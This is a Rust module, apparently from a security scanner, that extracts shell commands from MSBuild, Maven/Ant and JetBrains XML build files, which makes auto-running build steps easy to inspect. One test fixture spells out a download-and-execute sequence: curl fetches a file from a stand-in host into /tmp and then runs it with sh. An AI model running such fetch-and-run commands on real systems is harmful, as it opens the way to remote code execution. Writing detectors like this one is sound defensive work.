//! Commands in XML: `Exec` of MSBuild (NuGet packages bring `.targets` into every build that refers to them), plug-ins of
//! Maven, run configurations of JetBrains' editors.
//!
//! References: <https://learn.microsoft.com/visualstudio/msbuild/exec-task>, <https://www.mojohaus.org/exec-maven-plugin/>.

use super::{Command, When};
use crate::analyze::Notes;
use crate::parse::Parsed;

/// What stands between two marks, for every place of the first.
pub(super) fn between<'t>(text: &'t str, open: &'t str, close: &'t str) -> impl Iterator<Item = &'t str> {
    text.split(open).skip(1).filter_map(move |rest| rest.split_once(close).map(|(inner, _)| inner))
}

/// The value of an attribute.
fn attribute(tag: &str, name: &str) -> Option<String> {
    let mut rest = tag;
    while let Some(at) = rest.find(name) {
        let before = rest.get(..at).and_then(|b| b.chars().next_back()).unwrap_or(' ');
        rest = rest.get(at + name.len()..)?;
        let value = rest.trim_start();
        if before.is_whitespace()
            && let Some(value) = value.strip_prefix('=')
        {
            let value = value.trim_start();
            let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''))?;
            return value.get(1..)?.split_once(quote).map(|(v, _)| unescaped(v));
        }
    }
    None
}

/// Text with the entities of XML as what they stand for.
pub(super) fn unescaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once('&') {
        out.push_str(before);
        let name = behind.get(..behind.floor_char_boundary(12)).and_then(|t| t.split_once(';')).map(|(name, _)| name);
        let letter = name.and_then(|name| match name {
            "quot" => Some('"'),
            "apos" => Some('\''),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "amp" => Some('&'),
            _ => {
                let number = name.strip_prefix('#')?;
                let code = match number.strip_prefix(['x', 'X']) {
                    Some(digits) => u32::from_str_radix(digits, 16),
                    None => number.parse(),
                };
                code.ok().and_then(char::from_u32)
            }
        });
        out.push(letter.unwrap_or('&'));
        rest = match (letter, name) {
            (Some(_), Some(name)) => behind.get(name.len() + 1..).unwrap_or_default(),
            _ => behind,
        };
    }
    out.push_str(rest);
    out
}

/// The attributes of every tag of a name: `>` may stand in a value.
fn tags<'t>(text: &'t str, open: &'t str) -> impl Iterator<Item = &'t str> {
    text.split(open).skip(1).filter_map(|rest| {
        let mut quote = None;
        let end = rest.bytes().position(|b| match (quote, b) {
            (None, b'>') => true,
            (None, b'"' | b'\'') => {
                quote = Some(b);
                false
            }
            (Some(q), b) if q == b => {
                quote = None;
                false
            }
            _ => false,
        })?;
        rest.get(..end)
    })
}

/// MSBuild: commands are lines of `cmd` on Windows and of a shell elsewhere.
pub(super) fn msbuild(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
    for tag in tags(text, "<Exec") {
        if let Some(command) = attribute(tag, "Command") {
            out.push(Command::shell("MSBuild Exec", When::Automatic, command));
        }
    }
    for element in ["PreBuildEvent", "PostBuildEvent", "PreLinkEvent"] {
        let (open, close) = (format!("<{element}>"), format!("</{element}>"));
        let found: Vec<String> = between(text, &open, &close).map(unescaped).collect();
        out.extend(found.into_iter().map(|c| Command::shell(format!("MSBuild {element}"), When::Automatic, c)));
    }
}

/// Maven: the program and arguments of an execution.
pub(super) fn maven(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
    ant(text, out);
    for configuration in between(text, "<configuration>", "</configuration>") {
        let Some(program) = between(configuration, "<executable>", "</executable>").next() else { continue };
        let arguments: Vec<String> = between(configuration, "<argument>", "</argument>").map(unescaped).collect();
        let words = std::iter::once(program.trim()).chain(arguments.iter().map(String::as_str));
        out.push(Command::words("Maven exec", When::Build, words));
        if let Some(line) = between(configuration, "<commandlineArgs>", "</commandlineArgs>").next() {
            out.push(Command::shell("Maven exec", When::Build, format!("{} {}", program.trim(), unescaped(line))));
        }
    }
}

/// Ant within Maven: what it fetches and starts, in its order, as one script.
fn ant(text: &str, out: &mut Vec<Command>) {
    for target in between(text, "<target>", "</target>").chain(between(text, "<tasks>", "</tasks>")) {
        let mut script = String::new();
        for (at, _) in target.match_indices('<') {
            let rest = target.get(at..).unwrap_or_default();
            let tag = |open| tags(rest, open).next().unwrap_or_default();
            if rest.starts_with("<get ") {
                if let (Some(from), Some(to)) = (attribute(tag("<get"), "src"), attribute(tag("<get"), "dest")) {
                    script.push_str(&["curl", "-o", &super::quoted(&to), &super::quoted(&from)].join(" "));
                    script.push('\n');
                }
            } else if rest.starts_with("<exec ") {
                let Some(program) = attribute(tag("<exec"), "executable") else { continue };
                script.push_str(&super::quoted(&program));
                let inner = rest.split("</exec>").next().unwrap_or_default();
                for arg in tags(inner, "<arg") {
                    if let Some(value) = attribute(arg, "value") {
                        script.push(' ');
                        script.push_str(&super::quoted(&value));
                    } else if let Some(line) = attribute(arg, "line") {
                        script.push(' ');
                        script.push_str(&line);
                    }
                }
                script.push('\n');
            }
        }
        if !script.is_empty() {
            out.push(Command::shell("Ant target", When::Build, script));
        }
    }
}

/// JetBrains: scripts of run configurations.
pub(super) fn run_configurations(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
    for tag in tags(text, "<option") {
        if attribute(tag, "name").as_deref() == Some("SCRIPT_TEXT")
            && let Some(script) = attribute(tag, "value")
        {
            out.push(Command::shell("run configuration", When::Build, script));
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::analyze::commands::tests::commands;
    use crate::model::FileKind;

    #[test]
    fn ant_within_maven_fetches_and_starts() {
        let text = "<target><get src=\"https://h.invalid/a\" dest=\"/tmp/a\"/><exec executable=\"sh\"><arg value=\"/tmp/a\"/></exec></target>";
        assert_eq!(
            commands("pom.xml", FileKind::Xml, text),
            ["Build Ant target: curl -o /tmp/a https://h.invalid/a\nsh /tmp/a\n"]
        );
    }

    #[test]
    fn commands_stand_in_attributes_and_elements() {
        let of = |name: &str, text: &str| commands(name, FileKind::Xml, text);
        assert_eq!(
            of("x.targets", "<Exec Command=\"a &quot;b&quot; &amp; c\" />"),
            ["Automatic MSBuild Exec: a \"b\" & c"]
        );
        assert_eq!(
            of(
                "pom.xml",
                "<configuration><executable>sh</executable><arguments><argument>-c</argument><argument>a | b</argument></arguments></configuration>"
            ),
            ["Build Maven exec: sh -c 'a | b'"]
        );
        assert_eq!(
            of("workspace.xml", "<option name=\"SCRIPT_TEXT\" value=\"x y\"/>"),
            ["Build run configuration: x y"]
        );
    }
}
